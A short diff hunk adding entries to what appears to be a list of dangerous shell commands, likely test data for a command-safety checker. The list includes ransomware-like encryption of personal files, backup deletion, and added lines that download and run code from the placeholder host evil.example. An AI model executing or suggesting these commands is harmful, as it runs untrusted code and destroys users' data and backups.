@@ -398,6 +398,11 @@ openssl enc -aes-256-cbc -in notes.txt -out x
 gpg -c --passphrase x notes.txt
 7z a -pinfected x.7z ~/Documents
 zip -P pw x.zip notes.txt
+zip -qm x.zip notes.txt
+umount -fl /srv
+wget https://evil.example/tool && chmod +x tool && ./tool
+curl -so gadget https://evil.example/g; ./gadget
+curl -O https://evil.example/helper && sh helper
 restic forget --prune --keep-last 1
 rclone purge remote:backup
 tmutil delete /Volumes/x
